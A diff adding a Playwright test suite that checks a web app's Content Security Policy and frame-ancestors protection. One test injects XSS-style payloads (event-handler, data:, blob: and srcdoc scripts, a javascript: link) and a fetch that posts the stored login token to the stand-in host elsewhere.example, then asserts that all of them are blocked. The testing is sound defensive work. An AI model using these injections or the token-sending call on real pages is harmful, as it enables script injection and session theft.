@@ -1,0 +1,181 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from 'playwright-core'
+import { expect, onTestFinished, test } from 'vitest'
+import { startPortal } from './portal.ts'
+import { openAs, openPage, startDemo } from './stage.ts'
+
+const DESK = { viewport: { width: 1440, height: 900 } }
+
+const SCREENS: { who?: string; path: string; buttons?: (string | RegExp)[] }[] = [
+  { path: '/login' },
+  { who: 'demo-linus', path: '/register' },
+  { who: 'demo-ada', path: '/home' },
+  { who: 'demo-ada', path: '/events', buttons: ['Check In'] },
+  { who: 'demo-ada', path: '/leaderboard' },
+  { who: 'demo-ada', path: '/profile' },
+  { who: 'demo-ada', path: '/resources' },
+  { who: 'demo-margaret', path: '/events', buttons: ['Add Event'] },
+  {
+    who: 'demo-margaret',
+    path: '/controlpanel',
+    buttons: [/Delete Events/, /Manage Admins/, /Manage One-Click API/, /Close the quarter/],
+  },
+]
+
+test('no page and no window of ours does what the policy forbids', async () => {
+  const { address } = await startDemo()
+  const found: string[] = []
+  for (const { who, path, buttons = [] } of SCREENS) {
+    const page = who ? await openAs(address, who, DESK) : await openPage(address, DESK)
+    const violations = await listenForViolations(page)
+    await page.goto(path)
+    await page.getByRole('heading', { level: 1 }).first().waitFor()
+    for (const button of buttons) {
+      await page.getByRole('button', { name: button }).first().click()
+      await page.getByRole('dialog').waitFor()
+      await page.waitForLoadState('networkidle')
+      await page.keyboard.press('Escape')
+      await page.getByRole('dialog').waitFor({ state: 'detached' })
+    }
+    await page.waitForLoadState('networkidle')
+    found.push(...violations.map((what) => `${path}: ${what}`))
+    await page.context().close()
+  }
+  expect(found).toEqual([])
+})
+
+test('nor does the page of the contract', async () => {
+  const { address } = await startDemo()
+  const page = await openPage(address, DESK)
+  const violations = await listenForViolations(page)
+  await page.goto('/app/docs/')
+  await page.getByText('/app/api/v1/attendance/attend').first().click()
+  await page.getByRole('button', { name: 'Try it out' }).waitFor()
+  expect(violations).toEqual([])
+})
+
+test('Google’s button works under it', async () => {
+  const portal = await startPortal({ google: true })
+  const page = await openPage(portal.address, DESK)
+  const violations = await listenForViolations(page)
+  // What Google's script does to a page: a style sheet and a frame from its own place, calls to it, style attributes.
+  await page.route('https://accounts.google.com/gsi/**', (route) => {
+    const { pathname } = new URL(route.request().url())
+    if (pathname === '/gsi/client') return route.fulfill({ contentType: 'text/javascript', body: GOOGLES_SCRIPT })
+    if (pathname === '/gsi/style') return route.fulfill({ contentType: 'text/css', body: '.gsi { color: red }' })
+    if (pathname === '/gsi/button') return route.fulfill({ contentType: 'text/html', body: 'Sign in with Google' })
+    return route.fulfill({ json: {}, headers: { 'access-control-allow-origin': '*' } })
+  })
+  await page.goto('/login')
+  await page.frameLocator('iframe').getByText('Sign in with Google').waitFor()
+  await page.waitForLoadState('networkidle')
+  expect(violations).toEqual([])
+})
+
+test('whatever gets into a page does not run, and sends nothing away', async () => {
+  const { address } = await startDemo()
+  const page = await openAs(address, 'demo-ada', DESK)
+  const asked: string[] = []
+  await page.route(/elsewhere\.example/, (route) => {
+    asked.push(route.request().resourceType())
+    return route.abort()
+  })
+  await page.goto('/home')
+  await page.getByRole('heading', { level: 1 }).waitFor()
+  const violations = await listenForViolations(page)
+  await page.evaluate(() => {
+    const add = (name: string, attributes: Record<string, string>, text = '') => {
+      const element = Object.assign(document.createElement(name), { textContent: text })
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+      document.body.append(element)
+      return element
+    }
+    const place = document.createElement('div')
+    document.body.append(place)
+    place.innerHTML = `<img src="/nothing" onerror="globalThis.ran = 'an attribute'"><svg onload="globalThis.ran = 'svg'">`
+    add('script', {}, "globalThis.ran = 'inline'")
+    add('script', { src: 'https://elsewhere.example/script.js' })
+    add('script', { src: 'https://accounts.google.com/other/client' })
+    add('script', { src: 'data:text/javascript,globalThis.ran="data"' })
+    add('script', { src: URL.createObjectURL(new Blob(["globalThis.ran = 'blob'"], { type: 'text/javascript' })) })
+    add('iframe', { src: 'https://elsewhere.example/frame' })
+    add('iframe', { srcdoc: '<script>parent.ran = "srcdoc"</script>' })
+    add('object', { data: 'https://elsewhere.example/object' })
+    add('base', { href: 'https://elsewhere.example/' })
+    add('style', {}, 'body { display: none }')
+    add('link', { rel: 'stylesheet', href: 'https://elsewhere.example/style.css' })
+    add('a', { href: "javascript:globalThis.ran = 'a link'" }).click()
+    const form = add('form', { action: 'https://elsewhere.example/form', method: 'post' }) as HTMLFormElement
+    form.submit()
+    setTimeout("globalThis.ran = 'a timer'", 0)
+    fetch('https://elsewhere.example/call', { method: 'POST', body: localStorage.getItem('token') }).catch(
+      () => undefined,
+    )
+    navigator.sendBeacon('https://elsewhere.example/beacon', 'x')
+    new WebSocket('wss://elsewhere.example/')
+  })
+  await page.waitForTimeout(500)
+  expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined()
+  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
+  expect(new URL(page.url()).pathname).toBe('/home')
+  expect(asked).toEqual([])
+  const directives = new Set(violations.map((violation) => violation.split(' ')[0]))
+  for (const directive of [
+    'script-src-elem',
+    'script-src-attr',
+    'frame-src',
+    'base-uri',
+    'style-src-elem',
+    'connect-src',
+    'form-action',
+  ]) {
+    expect(directives).toContain(directive)
+  }
+})
+
+test('nobody puts a page of ours into theirs', async () => {
+  const { address } = await startDemo()
+  const theirs = createServer((_, answer) => {
+    answer.setHeader('content-type', 'text/html').end(`<iframe src="${address}/login"></iframe>`)
+  }).listen(0, '127.0.0.1')
+  onTestFinished(() => {
+    theirs.close()
+  })
+  await new Promise((resolve) => theirs.once('listening', resolve))
+  const page = await openPage(`http://localhost:${(theirs.address() as AddressInfo).port}`, DESK)
+  const refused: string[] = []
+  page.on('console', (message) => refused.push(message.text()))
+  await page.goto('/')
+  await page.waitForLoadState('networkidle')
+  expect(refused.join()).toMatch(/frame-ancestors|X-Frame-Options/i)
+  expect(await page.frames()[1]?.getByText('Member Login').count()).toBe(0)
+})
+
+const GOOGLES_SCRIPT = `
+  globalThis.google = { accounts: { id: {
+    initialize() {},
+    renderButton(place) {
+      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://accounts.google.com/gsi/style' })
+      const frame = Object.assign(document.createElement('iframe'), { src: 'https://accounts.google.com/gsi/button' })
+      frame.style.height = '44px'
+      document.head.append(sheet)
+      place.append(frame)
+      fetch('https://accounts.google.com/gsi/status')
+    },
+  } } }`
+
+/** Gathers, from now on, what the browser refuses to do on a page: the directive and what it was about. */
+async function listenForViolations(page: Page): Promise<string[]> {
+  const violations: string[] = []
+  await page.exposeFunction('violated', (what: string) => violations.push(what))
+  const listen = () =>
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) =>
+      (globalThis as unknown as { violated: (what: string) => void }).violated(
+        `${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber}`,
+      ),
+    )
+  await page.addInitScript(listen)
+  if (page.url() !== 'about:blank') await page.evaluate(listen)
+  return violations
+}
